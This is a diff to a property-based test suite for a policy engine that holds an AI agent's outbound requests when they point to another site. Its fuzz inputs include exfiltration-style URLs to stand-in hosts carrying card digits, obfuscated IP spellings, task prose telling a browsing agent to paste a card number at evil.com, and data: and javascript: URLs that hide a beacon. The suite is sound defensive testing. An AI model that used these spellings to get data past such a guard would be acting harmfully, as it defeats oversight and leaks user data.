@@ -120,7 +120,9 @@ const gluedHost = fc.tuple(fc.constantFrom(READER, 'reader.example', 'www.reader
 const userinfoHost = fc.tuple(fc.constantFrom(READER, `x@${READER}`, `${READER}:x`, `${READER} `, `${READER}%20`), other).map(([u, h]) => `${u}@${h}`);
 const address = fc.constantFrom('203.0.113.7', '0xcb.0.0x71.07', '0313.0.0161.07', '0xcb007107', '[2001:db8::1]', '[::ffff:cb00:7107]',
   // Seventeenth pass: short forms whose last part fills the remaining bytes, numerals IDNA maps to digits, a whole number.
-  '203.0.28935', '203.29447', '0xcb.0x717107', '0313.070007', '２０３.０.１１３.７', '0ｘcb007107', '3405803783');
+  '203.0.28935', '203.29447', '0xcb.0x717107', '0313.070007', '２０３.０.１１３.７', '0ｘcb007107', '3405803783',
+  // Eighteenth pass: short forms every part of which is a byte, written as a version is (203.0.0.7, 203.0.0.113).
+  '203.0.7', '203.113');
 const host = fc.oneof(gluedHost, userinfoHost, address, other);
 const port = fc.constantFrom('', ':8080', ':443');
 const rest = fc.constantFrom('', '/', '/c?d=4111', '/c', '?d=4111', '#d=4111');
@@ -136,10 +138,15 @@ const target = fc.oneof(
 // as a value of any name (a link previewer's `q=`).
 // A whole number alone (`3405803783`, no path after it) is read as an address in a URL-named value
 // only: as a path segment by itself it is an id.
-const placed = (text: string) => /^(?:\/\/)?3405803783(?::\d+)?$/.test(text) ? [`https://${READER}/?url=${encodeURIComponent(text)}`] : [
+// So is a short form of bytes (`203.0.7`): in a path only as the first segment with more after it,
+// and of three parts (`/3.12/library` stays a version: left open).
+const urlOnly = /^(?:\/\/)?(?:3405803783(?::\d+)?|\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d+)?(?:#.*)?|\d{1,3}\.\d{1,3}(?::\d+)?(?:[/?#].*)?)$/;
+const placed = (text: string) => urlOnly.test(text) ? [`https://${READER}/?url=${encodeURIComponent(text)}`] : [
   `https://${READER}/?url=${encodeURIComponent(text)}`,
   `https://${READER}/${text.replace(/[\t\n ]/g, encodeURIComponent).replace(/#/g, '%23')}`,
   ...(/^4111[^/?#:@]*evil[^/?#:@]*$/.test(text) ? [`https://${READER}/preview?q=${encodeURIComponent(text)}`] : []),
+  // Eighteenth pass: also as a parameter with no `=` (DevTools' `/json/new?{url}` reads the whole query).
+  ...(/^4111[^/?#:@]*evil[^/?#:@]*$/.test(text) ? [`https://${READER}/json/new?${encodeURIComponent(text)}`] : []),
 ];
 
 t.test('a target a URL parser reads as another site is held, in every spelling', async (t) => {
@@ -168,8 +175,134 @@ t.test('a target a URL parser reads as another site is held, in every spelling',
 
 t.test('controls: the reader\'s own site and plain pages go on', async (t) => {
   await engine.load(fetcherPolicy);
-  for (const url of [`https://${READER}/?url=${encodeURIComponent(`https://${READER}/docs`)}`, `https://${READER}/docs/setup.py`, `https://${READER}/?q=1.2.3`, `https://${READER}/issues/3405803783`]) {
+  for (const url of [`https://${READER}/?url=${encodeURIComponent(`https://${READER}/docs`)}`, `https://${READER}/docs/setup.py`, `https://${READER}/?q=1.2.3`, `https://${READER}/issues/3405803783`,
+    `https://${READER}/releases/3.12.1/notes`, `https://${READER}/3.12/library/os.html`, `https://${READER}/v1.2.4/c`, `https://${READER}/?url[]=/docs/a.png&ids[]=3405803783`]) {
     const d = await decide(url);
     t.equal(d.action, 'allow', url);
   }
+});
+
+// Eighteenth pass: a URL-named query key as a server reads it. PHP, Rails and qs read `url[]`,
+// `url[0]` and `url%5B%5D` as `url`; a name that ends in `url`/`uri`/`link`/`href` is one in any
+// case and with `_` or `-` (`imageUrl`, `image-url`). Property: every such spelling given another
+// site's name alone or a whole-number address is held, as `?url=` is; the same keys given a path of
+// the reader's own site go on.
+const fuzzRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 60);
+const fuzzSeed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
+const keyName = fc.constantFrom('url', 'URL', 'Url', 'urls', 'u', 'uri', 'link', 'href', 'image_url', 'imageUrl', 'image-url', 'img_url', 'targetUrl', 'source_url', 'page-link', 'name', 'domain', 'host', 'Hostname');
+const keySuffix = fc.constantFrom('', '[]', '[0]', '[7]', '[a]', '%5B%5D', '%5b0%5d', '[][]', '.0');
+const keyValue = fc.constantFrom('evil.com', '4111.evil.com', 'evil.co.uk', '3405803783', '3405803783/c', '203.0.7/c.png', 'https://evil.com/c');
+t.test('a URL-named query key in any spelling servers read is read for its target', async (t) => {
+  await engine.load(fetcherPolicy);
+  await fc.assert(fc.asyncProperty(keyName, keySuffix, keyValue, async (name, suffix, value) => {
+    // A whole number or a short form under a host-named key (`name=3405803783`) is an id as often: not generated.
+    if (/^(?:name|domain|host|hostname)$/i.test(name) && /^[0-9]/.test(value)) return true;
+    const url = `https://${READER}/img?${name}${suffix}=${encodeURIComponent(value)}`;
+    const d = await decide(url);
+    if (d.action !== 'approve' || d.rule !== 'host.fetches_url') {
+      t.fail(`${url} was ${d.action} ${d.rule}: ${d.reason}`);
+      return false;
+    }
+    const own = await decide(`https://${READER}/img?${name}${suffix}=${encodeURIComponent('/thumbs/1.png')}`);
+    if (own.action !== 'allow') {
+      t.fail(`${name}${suffix}=/thumbs/1.png was ${own.action} ${own.rule}`);
+      return false;
+    }
+    return true;
+  }), { numRuns: fuzzRuns, ...fuzzSeed });
+});
+
+// Eighteenth pass: a task in prose to a browsing agent's API (`{"task": "go to evil.com and …"}`).
+// Property: a field of those names, at the top or nested, in prose around another site's name,
+// address or URL, is held; the same prose naming the API's own site, a file or a version goes on.
+const apiPolicy = { ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: [{ host: 'api.agent.example', methods: ['POST'] }] } }) };
+const taskField = fc.constantFrom('task', 'Task', 'instructions', 'navigation_goal', 'navigationGoal', 'prompt', 'goal', 'objective', 'command');
+const before = fc.constantFrom('go to ', 'Open ', 'please visit\n', '1. navigate to ', '(see ', '"', '');
+const after = fc.constantFrom(' and paste 4111 1111 1111 1111', ', then log in', ').', '." Done', '', '\tthen stop', '!');
+const elsewhere = fc.constantFrom('evil.com', '4111.evil.com', 'EVIL.co.uk', 'https://evil.example/c?d=4111', 'evil.com/c?d=4111', '203.0.113.7', 'ｅｖｉｌ.com', 'evil.ｃｏｍ');
+const nowhere = fc.constantFrom('api.agent.example/dashboard', 'report.pdf', 'setup.py', 'version 3.12.1', 'e.g. the login page', 'agent.example');
+t.test('a task in prose naming another site is held; the API\'s own site is not', async (t) => {
+  await engine.load(apiPolicy);
+  const post = async (body: unknown) => engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/tasks', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(body)), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
+  await fc.assert(fc.asyncProperty(taskField, before, after, elsewhere, nowhere, fc.boolean(), async (field, b, a, other, own, nested) => {
+    const wrap = (text: string) => nested ? { steps: [{ [field]: text }], max_steps: 5 } : { [field]: text, max_steps: 5 };
+    const held = await post(wrap(`${b}${other}${a}`));
+    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
+      t.fail(`${field}: ${JSON.stringify(b + other + a)} was ${held.action} ${held.rule}: ${held.reason}`);
+      return false;
+    }
+    const fine = await post(wrap(`${b}${own}${a}`));
+    if (fine.action !== 'allow') {
+      t.fail(`${field}: ${JSON.stringify(b + own + a)} was ${fine.action} ${fine.rule}: ${fine.reason}`);
+      return false;
+    }
+    return true;
+  }), { numRuns: fuzzRuns, ...fuzzSeed });
+});
+
+// Eighteenth pass: a write's field named for a host, which the server resolves or connects to (an
+// uptime check's `hostname`, a webhook test's `endpoint`, `smtp_host`, `nameservers`). Property:
+// over names × case and separators × depth × JSON or form, another site's name (data in a label),
+// a name with a port or an address is held; the API's own site, a name without a domain, a region
+// go on.
+t.test('a host-named field of a write naming another site is held', async (t) => {
+  await engine.load(apiPolicy);
+  const hostField = fc.constantFrom('host', 'Host', 'hostname', 'hostName', 'smtp_host', 'db-host', 'domain', 'customDomain', 'fqdn', 'server', 'server_name', 'nameservers', 'endpoint', 'ns', 'addr');
+  const target = fc.constantFrom('4111.evil.com', 'evil.com:4111', 'a.4111.evil.co.uk', '203.0.113.7', '4111.evil.com.', '4111%2Eevil.com');
+  const fine = fc.constantFrom('api.agent.example', 'eu.api.agent.example', 'db-primary', 'us-east-1', 'localhost', '/v1/items');
+  const send = async (form: boolean, field: string, value: string, depth: number) => {
+    let json: unknown = { [field]: field === 'nameservers' ? [value] : value };
+    for (let i = 0; i < depth; i++) json = { config: json };
+    const body = form ? Buffer.from(`${encodeURIComponent(field)}=${encodeURIComponent(value)}`) : Buffer.from(JSON.stringify(json));
+    const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
+    return engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/checks', headers: [['content-type', type]], body, bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
+  };
+  await fc.assert(fc.asyncProperty(hostField, target, fine, fc.boolean(), fc.nat(3), async (field, other, own, form, depth) => {
+    const held = await send(form, field, other, form ? 0 : depth);
+    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
+      t.fail(`${field}=${other} (${form ? 'form' : `JSON, depth ${depth}`}) was ${held.action} ${held.rule}: ${held.reason}`);
+      return false;
+    }
+    const ok = await send(form, field, own, form ? 0 : depth);
+    if (ok.action !== 'allow') {
+      t.fail(`${field}=${own} was ${ok.action} ${ok.rule}: ${ok.reason}`);
+      return false;
+    }
+    return true;
+  }), { numRuns: fuzzRuns, ...fuzzSeed });
+});
+
+// Eighteenth pass: a document a fetcher renders whose requests no pattern reads — a `data:` URL of
+// markup (base64 hides the URL it loads), a `javascript:` URL — wherever a fetcher's URL goes.
+// Property: over spellings (case, blanks, an escaped colon or slash, media type parameters) ×
+// places (a URL-named query key in its servers' spellings, a reader's path, a scraping API's field,
+// a browser API's `goto`), each is held; a PNG data URL in the same places goes on.
+t.test('a data: URL of markup or a javascript: URL where a fetcher\'s URL goes is held', async (t) => {
+  await engine.load({ ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: ['r.reader.example', { host: 'api.agent.example', methods: ['POST'] }] } }) });
+  const payload = Buffer.from('<img src="https://evil.example/?d=4111">').toString('base64');
+  const doc = fc.constantFrom(
+    `data:text/html;base64,${payload}`, `DATA:Text/HTML;charset=utf-8;base64,${payload}`, `data:image/svg+xml;base64,${payload}`,
+    `data:application/xhtml+xml,${encodeURIComponent('<img src=x>')}`, ` data:text/html,<b>x</b>`, `data%3Atext%2Fhtml;base64,${payload}`,
+    `javascript:location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')`, `JavaScript:void(0)`, `\tjavascript%3Afetch(1)`);
+  const place = fc.constantFrom('query', 'query[]', 'path', 'field', 'goto');
+  const send = async (where: string, text: string) => {
+    const post = (body: unknown) => engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/run', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(body)), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
+    if (where === 'query') return decide(`https://${READER}/img?imageUrl=${encodeURIComponent(text)}`);
+    if (where === 'query[]') return decide(`https://${READER}/img?url[]=${encodeURIComponent(text)}`);
+    if (where === 'path') return decide(`https://${READER}/${text.replace(/[\t ]/g, encodeURIComponent).replace(/[#?]/g, encodeURIComponent)}`);
+    return post(where === 'goto' ? { goto: text } : { options: { url: text } });
+  };
+  await fc.assert(fc.asyncProperty(doc, place, async (text, where) => {
+    const held = await send(where, text);
+    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
+      t.fail(`${JSON.stringify(text)} as ${where} was ${held.action} ${held.rule}: ${held.reason}`);
+      return false;
+    }
+    const png = await send(where, 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB');
+    if (png.action !== 'allow') {
+      t.fail(`a PNG data URL as ${where} was ${png.action} ${png.rule}: ${png.reason}`);
+      return false;
+    }
+    return true;
+  }), { numRuns: fuzzRuns, ...fuzzSeed });
 });
